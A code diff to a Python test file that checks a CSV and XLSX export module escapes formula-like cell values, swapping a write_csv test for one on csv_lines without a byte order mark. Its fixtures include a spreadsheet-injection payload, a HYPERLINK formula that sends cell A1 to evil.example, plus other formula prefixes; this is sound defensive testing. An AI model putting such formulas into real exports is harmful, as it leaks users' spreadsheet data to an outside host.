@@ -7,7 +7,7 @@ from decimal import Decimal
 
 from openpyxl import load_workbook
 
-from worldclass.core.exports import Table, csv_lines, csv_response, to_xlsx, write_csv
+from worldclass.core.exports import Table, csv_lines, csv_response, to_xlsx
 
 HOSTILE = '=HYPERLINK("http://evil.example/?"&A1)'
 FORMULA_TEXTS = [HOSTILE, "+SUM(1,2)", "-2+3", "@cmd", "\t=1+1", "\r=1+1"]
@@ -35,10 +35,9 @@ def test_csv_starts_with_a_byte_order_mark_for_excel():
     assert next(csv_lines(Table(title="t", columns=["Nom"], rows=[]))) == "\ufeffNom\r\n"
 
 
-def test_write_csv_to_a_stream_is_formula_safe():
-    out = io.StringIO()
-    write_csv(Table(title="t", columns=["name"], rows=[[HOSTILE]]), out)
-    assert out.getvalue() == f'name\n"\'{HOSTILE.replace(chr(34), chr(34) * 2)}"\n'
+def test_csv_for_a_command_has_no_byte_order_mark_and_stays_formula_safe():
+    lines = csv_lines(Table(title="t", columns=["name"], rows=[[HOSTILE]]), byte_order_mark=False)
+    assert "".join(lines) == f'name\r\n"\'{HOSTILE.replace(chr(34), chr(34) * 2)}"\r\n'
 
 
 def test_xlsx_stores_formula_like_text_as_quoted_text():
